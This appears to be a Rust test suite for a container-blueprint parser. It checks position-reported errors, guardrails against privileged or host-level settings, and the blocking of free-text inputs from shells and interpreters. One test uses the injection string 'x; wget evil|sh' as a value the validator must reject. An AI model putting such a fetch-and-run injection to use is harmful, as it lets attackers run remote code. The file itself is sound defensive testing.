//! Each rule of BLUEPRINTS.md, refused with line and column.
use serde_json::json;

use super::inputs;
use super::resolve::{DeploymentRef, resolve};
use super::*;

const EXAMPLE: &str = r#"id: two-tier-web
name: Two-tier web service
description: Web server with a private database, on its own network.
category: Web
version: 3
inputs:
  replicas:   { type: integer, title: Web instances, default: 1, min: 1, max: 4 }
  memory_mb:  { type: integer, title: Memory per instance (MB), default: 256, enum: [128, 256, 512, 1024] }
  greeting:   { type: string,  title: Greeting, default: hello, pattern: "^[A-Za-z ]{1,40}$" }
  db_password: { type: string,  title: Database password, secret: true, generate: true }
  debug:      { type: boolean, title: Debug logging, default: false }
components:
  db:
    image: example/db:1.0
    env: { DB_PASSWORD: "${inputs.db_password}" }
    volumes: [ { name: data, target: /var/lib/db } ]
    resources: { memory_mb: 512, cpus: 0.5 }
    health: { cmd: ["/bin/sh", "-c", "test -e /tmp/ready"], interval_s: 1, retries: 30 }
  web:
    image: example/web:2.1
    command: ["httpd", "-f", "-p", "8080"]
    env: { GREETING: "${inputs.greeting}", DB_HOST: db, DEBUG: "${inputs.debug}" }
    ports: [ { container: 8080 } ]
    resources: { memory_mb: "${inputs.memory_mb}", cpus: 0.5 }
    replicas: "${inputs.replicas}"
    depends_on: [db]
    tty: false
    stdin_open: false
    restart: unless-stopped
outputs:
  url: "http://${host.address}:${components.web.ports.8080}"
"#;

fn errors(src: &str) -> Vec<BlueprintError> {
    parse(src).expect_err("the blueprint should be refused")
}

/// The one error of `src`, checked for its position and a word of its message.
fn refused(src: &str, line: usize, column: usize, word: &str) {
    let errs = errors(src);
    assert!(
        errs.iter().any(|e| e.line == line && e.column == column && e.message.contains(word)),
        "expected {line}:{column} `{word}` in {errs:#?}"
    );
}

fn minimal(component: &str) -> String {
    format!("id: demo\nname: Demo\nversion: 1\ncomponents:\n  app:\n{component}")
}

#[test]
fn the_design_example_parses() {
    let bp = parse(EXAMPLE).unwrap();
    assert_eq!(bp.id, "two-tier-web");
    assert_eq!(bp.version, 3);
    assert_eq!(bp.inputs.len(), 5);
    let order: Vec<&str> = bp.start_order().iter().map(|c| c.name.as_str()).collect();
    assert_eq!(order, ["db", "web"]);
}

#[test]
fn inputs_are_substituted_and_checked() {
    let bp = parse(EXAMPLE).unwrap();
    let given = json!({"replicas": 3, "memory_mb": "512", "greeting": "hi there"});
    let values = inputs::validate(&bp, given.as_object().unwrap()).unwrap();
    assert_eq!(values["db_password"].render().len(), 24, "generated");
    let dep = DeploymentRef { id: "d1".into(), name: "n".into() };
    let spec = resolve(&bp, &values, &dep).unwrap();
    let web = spec.iter().find(|c| c.name == "web").unwrap();
    assert_eq!(web.replicas, 3);
    assert_eq!(web.memory_mb, Some(512));
    assert!(web.env.contains(&("GREETING".into(), "hi there".into())));
    assert!(web.env.contains(&("DEBUG".into(), "false".into())));
    // Secrets are masked for display.
    assert_eq!(inputs::masked(&bp, &values)["db_password"], crate::domain::secret::MASK);

    for (bad, field) in [
        (json!({"replicas": 9}), "replicas"),
        (json!({"memory_mb": 300}), "memory_mb"),
        (json!({"greeting": "no! symbols"}), "greeting"),
        (json!({"debug": "maybe"}), "debug"),
        (json!({"nope": 1}), "nope"),
    ] {
        let errs = inputs::validate(&bp, bad.as_object().unwrap()).unwrap_err();
        assert!(errs.iter().any(|(f, _)| f == field), "{bad}: {errs:?}");
    }
}

#[test]
fn unknown_fields_are_refused_where_they_are() {
    refused("id: demo\nname: Demo\nversion: 1\nflavour: x\ncomponents:\n  app: { image: busybox }\n", 4, 1, "unknown field `flavour`");
    refused(&minimal("    image: busybox\n    imagee: x\n"), 7, 5, "unknown field `imagee`");
    refused(&minimal("    image: busybox\n    resources: { memory: 5 }\n"), 7, 18, "unknown field `memory`");
}

#[test]
fn references_to_unknown_inputs_are_refused_at_the_reference() {
    refused(&minimal("    image: busybox\n    env: { A: \"x ${inputs.missing}\" }\n"), 7, 18, "inputs.missing");
    refused(&minimal("    image: busybox\n    command: [\"${input.x}\"]\n"), 7, 16, "not a known reference");
    refused(&minimal("    image: \"${host.address}\"\n"), 6, 13, "only be used in outputs");
}

#[test]
fn depends_on_cycles_and_unknown_components_are_refused() {
    let src = "id: demo\nname: Demo\nversion: 1\ncomponents:\n  a: { image: busybox, depends_on: [b] }\n  b: { image: busybox, depends_on: [a] }\n";
    let errs = errors(src);
    assert!(errs.iter().any(|e| e.message.contains("cycle") && e.line >= 5), "{errs:?}");
    refused("id: demo\nname: Demo\nversion: 1\ncomponents:\n  a: { image: busybox, depends_on: [zz] }\n", 5, 37, "`zz`");
}

#[test]
fn bad_images_and_ports_are_refused() {
    refused(&minimal("    image: \"Not An Image\"\n"), 6, 13, "not an image reference");
    refused(&minimal("    image: busybox\n    ports: [70000]\n"), 7, 13, "out of range");
    refused(&minimal("    image: busybox\n    ports: [ { container: 80, host: 0 } ]\n"), 7, 37, "out of range");
    refused(&minimal("    image: busybox\n    ports: [ { container: 80, protocol: sctp } ]\n"), 7, 41, "sctp");
}

#[test]
fn guardrails_need_a_trusted_blueprint() {
    refused(&minimal("    image: busybox\n    privileged: true\n"), 7, 17, "privileged");
    refused(&minimal("    image: busybox\n    volumes: [ { source: /etc, target: /host-etc } ]\n"), 7, 16, "host path");
    refused(&minimal("    image: busybox\n    network_mode: host\n"), 7, 19, "host networking");
    refused(&minimal("    image: busybox\n    cap_add: [NET_ADMIN]\n"), 7, 15, "NET_ADMIN");
    refused(&minimal("    image: busybox\n    devices: [/dev/kvm]\n"), 7, 15, "/dev/kvm");
    // An input cannot smuggle host networking in: the resolved value is checked (and a free
    // string may not name a network mode at all).
    let src = "id: demo\nname: Demo\nversion: 1\ninputs:\n  mode: { type: string, enum: [host, bridge], default: host }\ncomponents:\n  app:\n    image: busybox\n    network_mode: \"${inputs.mode}\"\n";
    refused(src, 9, 20, "host networking");
    refused(&src.replace("enum: [host, bridge], ", ""), 9, 20, "only when `mode` is an enum");
    // Trusted blueprints may.
    let trusted = format!("trusted: true\n{}", minimal("    image: busybox\n    privileged: true\n    network_mode: host\n"));
    assert!(parse(&trusted).is_ok());
}

#[test]
fn input_definitions_are_checked() {
    let base = |inputs: &str| format!("id: demo\nname: Demo\nversion: 1\ninputs:\n{inputs}components:\n  app: {{ image: busybox }}\n");
    refused(&base("  n: { type: float }\n"), 5, 14, "not a type");
    refused(&base("  n: { type: integer, default: 9, max: 5 }\n"), 5, 32, "does not fit");
    refused(&base("  n: { type: string, pattern: \"([a-z\" }\n"), 5, 32, "regular expression");
    refused(&base("  s: { type: string, secret: true, default: x }\n"), 5, 6, "takes no default");
    refused(&base("  Bad-Name: { type: string }\n"), 5, 3, "input name");
    refused(&base("  n: { type: integer, min: 1, pattern: x }\n"), 5, 40, "string inputs only");
}

#[test]
fn structure_errors_say_where() {
    refused("id: demo\nname: Demo\nversion: one\ncomponents:\n  app: { image: busybox }\n", 3, 10, "whole number");
    refused("id: Demo_1\nname: Demo\nversion: 1\ncomponents:\n  app: { image: busybox }\n", 1, 5, "id `Demo_1`");
    refused("id: demo\nname: Demo\nversion: 1\ncomponents: {}\n", 4, 13, "at least one component");
    refused("id: demo\nname: Demo\nversion: 1\ncomponents:\n  app: { image: busybox, command: httpd }\n", 5, 35, "must be a list");
    let errs = errors("id: demo\nversion: 1\ncomponents:\n  app: { image: busybox }\n");
    assert!(errs.iter().any(|e| e.message.contains("needs `name`")), "{errs:?}");
    let errs = errors("id: demo\nname: [x\n");
    assert!(errs[0].message.contains("YAML syntax error"), "{errs:?}");
}

#[test]
fn outputs_must_name_published_ports() {
    let src = "id: demo\nname: Demo\nversion: 1\ncomponents:\n  app: { image: busybox, ports: [80] }\noutputs:\n  url: \"http://${host.address}:${components.app.ports.81}\"\n";
    refused(src, 7, 32, "publishes no container port 81");
}

#[test]
fn every_error_is_reported_at_once() {
    let src = "id: demo\nname: Demo\nversion: 1\ncomponents:\n  app:\n    image: busybox\n    tty: maybe\n    restart: sometimes\n";
    let errs = errors(src);
    assert_eq!(errs.len(), 2, "{errs:?}");
    assert_eq!((errs[0].line, errs[1].line), (7, 8));
}

#[test]
fn free_text_inputs_stay_out_of_images_users_paths_and_shells() {
    let with =
        |inputs: &str, component: &str| format!("id: demo\nname: Demo\nversion: 1\ninputs:\n{inputs}components:\n  app:\n{component}");
    let free = "  x: { type: string }\n";
    refused(&with(free, "    image: \"busybox:${inputs.x}\"\n"), 8, 21, "image may use");
    refused(&with(free, "    image: busybox\n    user: \"${inputs.x}\"\n"), 9, 12, "user may use");
    refused(&with(free, "    image: busybox\n    command: [\"sh\", \"-c\", \"echo ${inputs.x}\"]\n"), 9, 33, "in a script");
    refused(&with(free, "    image: busybox\n    health: { cmd: [\"/bin/ash\", \"-c\", \"test ${inputs.x}\"] }\n"), 9, 45, "in a script");
    refused(&with(free, "    image: busybox\n    command: [\"bash\", \"-ec\", \"run ${inputs.x}\"]\n"), 9, 35, "in a script");
    refused(&with(free, "    image: busybox\n    command: [\"python3\", \"-c\", \"print('${inputs.x}')\"]\n"), 9, 40, "in a script");
    // Nor may it choose the program, or an option of an interpreter (`-c` would make the next
    // word a script), even behind a wrapper.
    refused(&with(free, "    image: busybox\n    command: [\"${inputs.x}\", \"-c\", \"echo hi\"]\n"), 9, 16, "the program to run");
    refused(
        &with(free, "    image: busybox\n    command: [\"sh\", \"${inputs.x}\", \"echo hi\"]\n"),
        9,
        22,
        "an option of the interpreter",
    );
    refused(
        &with(free, "    image: busybox\n    command: [\"tini\", \"--\", \"python3\", \"${inputs.x}\", \"print(1)\"]\n"),
        9,
        41,
        "an option of the interpreter",
    );
    refused(&with(free, "    image: busybox\n    health: { cmd: [\"${inputs.x}\"] }\n"), 9, 22, "the program to run");
    // Wrappers run what follows their own words; grouped flags and a flag finished by an
    // input count; awk's program is its first operand.
    for (line, word) in [
        ("[\"env\", \"A=1\", \"${inputs.x}\"]", "the program to run"),
        ("[\"su-exec\", \"app\", \"timeout\", \"5\", \"${inputs.x}\"]", "the program to run"),
        ("[\"sh\", \"-e${inputs.x}\", \"${inputs.x}\"]", "an option of the interpreter"),
        ("[\"perl\", \"-le\", \"print ${inputs.x}\"]", "in a script"),
        ("[\"python3\", \"-uc\", \"print(${inputs.x})\"]", "in a script"),
        ("[\"node\", \"--eval\", \"${inputs.x}\"]", "in a script"),
        ("[\"awk\", \"-F\", \":\", \"{ print ${inputs.x} }\"]", "in a script"),
        ("[\"busybox\", \"sh\", \"-c\", \"echo ${inputs.x}\"]", "in a script"),
        // Options that take the next word as their value are read past.
        ("[\"bash\", \"-o\", \"pipefail\", \"-c\", \"echo ${inputs.x}\"]", "in a script"),
        ("[\"env\", \"-u\", \"HOME\", \"sh\", \"-c\", \"echo ${inputs.x}\"]", "in a script"),
        ("[\"timeout\", \"-s\", \"KILL\", \"30\", \"sh\", \"-c\", \"echo ${inputs.x}\"]", "in a script"),
        ("[\"env\", \"N=${deployment.name}\", \"sh\", \"-c\", \"echo ${inputs.x}\"]", "in a script"),
        ("[\"perl\", \"-I/usr/lib/perl5\", \"-e\", \"print '${inputs.x}'\"]", "in a script"),
        ("[\"perl\", \"-Mfeature=say\", \"-E\", \"say ${inputs.x}\"]", "in a script"),
        ("[\"node\", \"-r\", \"${inputs.x}\", \"app.js\"]", "an option of the interpreter"),
        ("[\"env\", \"-S\", \"${inputs.x}\"]", "an option of the interpreter"),
    ] {
        let errs = errors(&with(free, &format!("    image: busybox\n    command: {line}\n")));
        assert!(errs.iter().any(|e| e.line == 9 && e.message.contains(word)), "{line}: {errs:#?}");
    }
    // A pattern that lets shell syntax through is no guard.
    let loose = "  x: { type: string, pattern: \".*\" }\n";
    refused(&with(loose, "    image: busybox\n    command: [\"sh\", \"-c\", \"echo ${inputs.x}\"]\n"), 9, 33, "keeps shell syntax out");
    // An enum goes anywhere; a pattern into a shell; numbers anywhere; a free string where no
    // shell reads it (an argument, an environment variable).
    let fine =
        "  x: { type: string, enum: [a, b] }\n  p: { type: string, pattern: \"[a-z]+\" }\n  n: { type: integer }\n  f: { type: string }\n";
    let src = with(
        fine,
        "    image: \"busybox:${inputs.x}\"\n    command: [\"sh\", \"-c\", \"echo ${inputs.p} ${inputs.n}\"]\n    env: { F: \"${inputs.f}\" }\n",
    );
    assert!(parse(&src).is_ok(), "{:?}", parse(&src).err());
    let args = with(fine, "    image: busybox\n    command: [\"echo\", \"${inputs.f}\"]\n");
    assert!(parse(&args).is_ok(), "{:?}", parse(&args).err());
    // A script's own arguments, after its file or its text, and an enum as the program.
    for line in [
        "[\"sh\", \"/app/run.sh\", \"${inputs.f}\"]",
        "[\"sh\", \"-c\", \"echo \\\"$1\\\"\", \"sh\", \"${inputs.f}\"]",
        "[\"${inputs.x}\", \"${inputs.f}\"]",
        "[\"python3\", \"--name=${inputs.f}\"]",
        // A shell named as an argument of another program is not what runs.
        "[\"adduser\", \"-D\", \"-s\", \"/bin/sh\", \"${inputs.f}\"]",
        "[\"awk\", \"-f\", \"/app/x.awk\", \"${inputs.f}\"]",
        // A free value for the environment of a script that quotes it; a script file's arguments.
        "[\"env\", \"GREETING=${inputs.f}\", \"sh\", \"-c\", \"echo \\\"$GREETING\\\"\"]",
        "[\"ruby\", \"-E\", \"UTF-8\", \"/app/run.rb\", \"${inputs.f}\"]",
        "[\"bash\", \"-o\", \"pipefail\", \"/app/run.sh\", \"${inputs.f}\"]",
    ] {
        let src = with(fine, &format!("    image: busybox\n    command: {line}\n"));
        assert!(parse(&src).is_ok(), "{line}: {:?}", parse(&src).err());
    }
}

#[test]
fn a_stored_version_loads_under_the_rules_of_its_publication() {
    // Refused at publication now; a version stored before the rule still loads, and what
    // every version must be (here: a known field) is still checked.
    let src = "id: demo\nname: Demo\nversion: 1\ninputs:\n  x: { type: string }\ncomponents:\n  app:\n    image: busybox\n    command: [\"${inputs.x}\"]\n";
    assert!(parse(src).is_err());
    assert!(super::parse_stored(src).is_ok(), "{:?}", super::parse_stored(src).err());
    // ...and says what today's rules would refuse it for (no new request or item starts from it).
    let risks = super::input_risks(&super::parse_stored(src).unwrap());
    assert!(risks.len() == 1 && risks[0].line == 9 && risks[0].message.contains("the program to run"), "{risks:?}");
    assert!(super::input_risks(&parse(&src.replace("\"${inputs.x}\"", "\"echo\", \"${inputs.x}\"")).unwrap()).is_empty());
    assert!(super::parse_stored(&src.replace("    image: busybox\n", "    image: busybox\n    privileges: 1\n")).is_err());
}

#[test]
fn patterns_match_whole_values() {
    let src = "id: demo\nname: Demo\nversion: 1\ninputs:\n  w: { type: string, pattern: \"[a-z0-9-]+\" }\ncomponents:\n  app: { image: busybox }\n";
    let bp = parse(src).unwrap();
    let spec = bp.input("w").unwrap();
    assert!(inputs::check_value(spec, &InputValue::String("ok-1".into())).is_ok());
    let err = inputs::check_value(spec, &InputValue::String("x; wget evil|sh".into())).unwrap_err();
    assert!(err.contains("must match the pattern [a-z0-9-]+"), "{err}");
}

#[test]
fn a_list_of_allowed_images_bounds_an_image_input() {
    let src = "id: demo\nname: Demo\nversion: 1\nallowed_images: [\"registry.local:5000/team-a/*\"]\ninputs:\n  image: { type: string, default: \"registry.local:5000/team-a/app:1\" }\ncomponents:\n  app:\n    image: \"${inputs.image}\"\n";
    let bp = parse(src).unwrap();
    assert!(bp.allowed_images.allows("registry.local:5000/team-a/app:2"));
    assert!(!bp.allowed_images.allows("busybox"));
    // Without the list, a free image input is refused; with it, an image the blueprint names
    // itself must be on it; a bad pattern is refused at its entry.
    refused(&src.replace("allowed_images: [\"registry.local:5000/team-a/*\"]\n", ""), 8, 13, "only when `image` is an enum");
    refused(&src.replace("\"${inputs.image}\"", "busybox"), 9, 12, "not allowed here: this blueprint allows only");
    refused(&src.replace("team-a/*\"]", "team-a/app:1\"]"), 4, 18, "not tags");
}
